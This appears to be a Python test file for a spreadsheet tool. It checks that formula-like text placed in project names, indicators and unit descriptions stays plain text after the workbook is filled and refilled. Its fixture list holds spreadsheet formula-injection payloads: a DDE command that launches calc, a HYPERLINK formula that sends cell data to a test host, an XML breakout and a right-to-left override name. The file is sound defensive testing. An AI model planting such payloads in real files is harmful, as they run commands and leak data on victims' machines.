"""Formulas typed as names, tasks and indicators stay words: in the cells, in the tabs, in the report."""

import csv
import json
import shutil
from pathlib import Path

import openpyxl
import pytest

import xltools
from oracles.expected_tables import SAMPLE, read_records
from oracles.made_up import write_records

EVIL = "=cmd|'/c calc'!A0"
TEXTS = [
    EVIL,
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    '=HYPERLINK("http://a.test/?"&A1,"点")',
    "]]></t><f>1</f>",
    "\u202exslx.名",
]


def formulas(path: Path) -> list[str]:
    """Where formulas stand, by the number of the tab: its name has the project's."""
    book = openpyxl.load_workbook(path)
    return [
        f"{number}!{cell.coordinate}"
        for number, sheet in enumerate(book)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def words(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.data_type != "f"
    }


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> list[str]:
    return formulas(xltools.fill(SAMPLE, tmp_path_factory.mktemp("plain") / "部门.xlsx").path)


@pytest.mark.parametrize("text", TEXTS)
def test_no_formula_more_than_without_them(text, plain, tmp_path):
    folder = Path(shutil.copytree(SAMPLE, tmp_path / "输入"))
    project = read_records(folder / "projects.csv")[0]["项目名称"]
    for file in ("projects.csv", "indicators.csv"):
        rows = read_records(folder / file)
        for row in rows:
            if row["项目名称"] == project:
                row["项目名称"] = text
                if "三级指标" in row:
                    row["三级指标"] = text
        write_records(folder / file, rows, list(rows[0]))
    facts = json.loads((folder / "unit.json").read_text("utf-8"))
    facts["主要职责"] = text
    facts["战略目标"] = text
    (folder / "unit.json").write_text(json.dumps(facts, ensure_ascii=False), encoding="utf-8")
    path = xltools.fill(folder, tmp_path / "部门.xlsx").path
    assert formulas(path) == plain
    assert text in words(path)
    report = xltools.check(path)
    assert report.trouble is None
    assert not [finding for finding in report.findings if finding.rule.startswith("S-")]


def test_they_come_back_when_the_workbook_is_filled_again(plain, tmp_path):
    folder = Path(shutil.copytree(SAMPLE, tmp_path / "输入"))
    project = read_records(folder / "projects.csv")[0]["项目名称"]
    for file in ("projects.csv", "indicators.csv"):
        text = (folder / file).read_text("utf-8-sig")
        assert project in text
        (folder / file).write_text(text.replace(project, EVIL), encoding="utf-8")
    path = xltools.fill(folder, tmp_path / "部门.xlsx").path
    again = xltools.fill(path, tmp_path / "再填.xlsx").path
    assert formulas(again) == plain
    assert EVIL in words(again)
    frame = xltools.read_input(again).frames()["项目清单"]
    out = tmp_path / "项目.csv"
    frame.to_csv(out, index=False)
    with out.open(encoding="utf-8", newline="") as file:
        assert EVIL in [row["项目名称"] for row in csv.DictReader(file)]
